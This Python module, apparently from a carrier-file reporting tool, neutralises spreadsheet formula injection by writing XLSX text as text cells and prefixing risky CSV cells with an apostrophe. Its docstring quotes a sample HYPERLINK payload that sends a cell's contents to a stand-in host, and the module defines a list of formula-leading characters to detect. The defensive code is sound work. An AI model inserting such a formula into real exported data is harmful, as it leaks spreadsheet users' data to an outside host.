"""Text from carrier files, made safe for spreadsheets (formula injection, CWE-1236).

A carrier's file can carry text such as ``=HYPERLINK("http://x/?"&A1,"click")`` in a description,
a reference or a tracking number; it reaches the report's findings and credits. Spreadsheets run such
text as a formula when it is a formula cell (XLSX) or when a CSV cell starts with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return.

- XLSX: every text value is written as a text cell (:func:`force_text`), never a formula; it shows
  exactly as received.
- The report's CSV (written for spreadsheets): a text cell starting with one of those characters is
  prefixed with ``'`` (:func:`neutralise`), unless the whole cell is a plain decimal number
  (``-12.34`` stays a number). Amounts, counts, rates and dates are written as values and never
  touched.
- The CLI's ``--format csv`` is machine-readable output for scripts and keeps the data exact (no
  prefix): whoever opens it in a spreadsheet imports it as text.
"""

from __future__ import annotations

import re
from typing import Any

from openpyxl.cell.cell import Cell

#: What makes a spreadsheet read a CSV cell as a formula (OWASP "CSV Injection").
FORMULA_LEAD = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d+(?:\.\d+)?")

__all__ = ["FORMULA_LEAD", "force_text", "neutralise"]


def neutralise(text: str) -> str:
    """``text`` for a CSV that a spreadsheet opens: a leading ``'`` when it could run as a formula."""
    if text.startswith(FORMULA_LEAD) and not _NUMBER.fullmatch(text):
        return "'" + text
    return text


def force_text(cell: Cell, value: Any) -> None:
    """Write ``value`` into ``cell``; a string always as a text cell, never a formula."""
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
